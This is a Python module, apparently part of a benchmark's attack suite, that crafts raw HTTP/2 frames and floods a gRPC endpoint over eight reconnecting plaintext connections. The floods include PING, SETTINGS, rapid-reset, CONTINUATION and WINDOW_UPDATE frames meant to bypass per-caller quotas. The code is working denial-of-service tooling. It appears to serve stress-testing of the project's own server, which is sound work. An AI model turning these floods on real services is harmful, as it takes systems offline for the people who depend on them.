"""Floods of frames of HTTP/2 that carry no call, on connections in plaintext to the gRPC port.

gRPC handles these frames in C, before the server sees a caller, so no quota counts them.
"""

import asyncio
import socket
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

from benchmarks.attacks.attack import Assault, Attack

_CONNECTIONS: Final = 8
_FRAMES: Final = 8_192
_READ_BYTES: Final = 1 << 18
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_HEADERS: Final = 4
_CANCEL: Final = (8).to_bytes(4)


@dataclass(frozen=True, slots=True)
class Flood:
    """What a connection sends.

    Attributes:
        first: Sent once, after the preface.
        repeated: Sent again and again; empty for a connection that ends after ``first``.
        frames: Number of frames in ``repeated``, or in ``first`` if that is empty.
        reads: Whether the connection reads the answers.
    """

    first: bytes
    repeated: bytes
    frames: int
    reads: bool = True


def _frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _call_headers() -> bytes:
    """Return the headers of a call without references to earlier ones, so that they can be sent on any stream."""
    fields = {
        ":method": "POST", ":scheme": "http", ":path": "/tidelog.v1.WalService/AppendStream", ":authority": "bench",
        "te": "trailers", "content-type": "application/grpc",  # codespell:ignore te
    }  # fmt: skip
    # A literal field that is not indexed (RFC 7541, section 6.2.2); each length fits its first byte.
    return b"".join(
        b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in fields.items()
    )


def _frames(*frames: bytes, first: bytes = b"", reads: bool = True) -> Flood:
    """Return a flood of ``frames`` in turns."""
    return Flood(_frame(_SETTINGS) + first, b"".join(frames) * (_FRAMES // len(frames)), _FRAMES, reads)


def _resets() -> Flood:
    """Return streams that are opened and reset at once. Numbers of streams only grow: a connection ends after them."""
    headers = _call_headers()
    streams = (
        _frame(_HEADERS, headers, _END_HEADERS, stream) + _frame(_RST_STREAM, _CANCEL, stream=stream)
        for stream in range(1, 2 * _FRAMES, 2)
    )
    return Flood(_frame(_SETTINGS) + b"".join(streams), b"", 2 * _FRAMES)


_SETTINGS_FRAME: Final = _frame(_SETTINGS)
_PING_FRAME: Final = _frame(_PING, bytes(8))
FLOODS: Final[dict[str, tuple[str, Callable[[], Flood]]]] = {
    "http2-frames": ("SETTINGS and PING frames", lambda: _frames(_SETTINGS_FRAME, _PING_FRAME)),
    "http2-settings": ("SETTINGS frames", lambda: _frames(_SETTINGS_FRAME)),
    "http2-settings-unread": (
        "SETTINGS frames and reads no answers",
        lambda: _frames(_SETTINGS_FRAME, reads=False),
    ),
    "http2-pings": ("PING frames", lambda: _frames(_PING_FRAME)),
    "http2-pings-unread": ("PING frames and reads no answers", lambda: _frames(_PING_FRAME, reads=False)),
    "http2-resets": ("streams that it resets at once", _resets),
    "http2-data": (
        "empty DATA frames of an open stream",
        lambda: _frames(_frame(_DATA, stream=1), first=_frame(_HEADERS, _call_headers(), _END_HEADERS, 1)),
    ),
    "http2-continuations": (
        "empty CONTINUATION frames",
        lambda: _frames(_frame(_CONTINUATION, stream=1), first=_frame(_HEADERS, _call_headers(), stream=1)),
    ),
    "http2-window-updates": ("WINDOW_UPDATE frames", lambda: _frames(_frame(_WINDOW_UPDATE, (1).to_bytes(4)))),
    "http2-priorities": ("PRIORITY frames", lambda: _frames(_frame(_PRIORITY, bytes(4) + b"\x10", stream=1))),
}


async def _run(assault: Assault, flood: Flood) -> None:
    async with asyncio.TaskGroup() as senders:
        for _ in range(_CONNECTIONS):
            senders.create_task(_flood(assault, flood))
        assault.under_way()


async def _flood(assault: Assault, flood: Flood) -> None:
    """Keep a connection open that sends as fast as the server takes it."""
    host, _, port = assault.order.grpc_endpoint.rpartition(":")
    loop = asyncio.get_running_loop()
    while True:
        with socket.socket() as opened:
            opened.setblocking(False)
            reading: asyncio.Task[None] | None = None
            try:
                await loop.sock_connect(opened, (host, int(port)))
                assault.counts["connections"] += 1
                if flood.reads:
                    reading = loop.create_task(_read(opened))
                await _send(assault, flood, opened)
            except OSError:
                # The server has closed the connection, or refused it.
                assault.counts["closed"] += 1
            finally:
                if reading is not None:
                    reading.cancel()
                    with suppress(asyncio.CancelledError):
                        await reading


async def _send(assault: Assault, flood: Flood, opened: socket.socket) -> None:
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(opened, PREFACE + flood.first)
    if not flood.repeated:
        assault.counts["frames"] += flood.frames
    while flood.repeated:
        await loop.sock_sendall(opened, flood.repeated)
        assault.counts["frames"] += flood.frames


async def _read(opened: socket.socket) -> None:
    """Read until the server closes the connection, and throw it away."""
    loop, buffer = asyncio.get_running_loop(), bytearray(_READ_BYTES)
    with suppress(OSError):
        while await loop.sock_recv_into(opened, buffer):
            pass


def _attack(name: str, what: str, make: Callable[[], Flood]) -> Attack:
    async def run(assault: Assault) -> None:
        await _run(assault, make())

    return Attack(name=name, what=f"sends {what} on {_CONNECTIONS} connections in plaintext", run=run, is_open=True)


ATTACKS: Final = tuple(_attack(name, *each) for name, each in FLOODS.items())
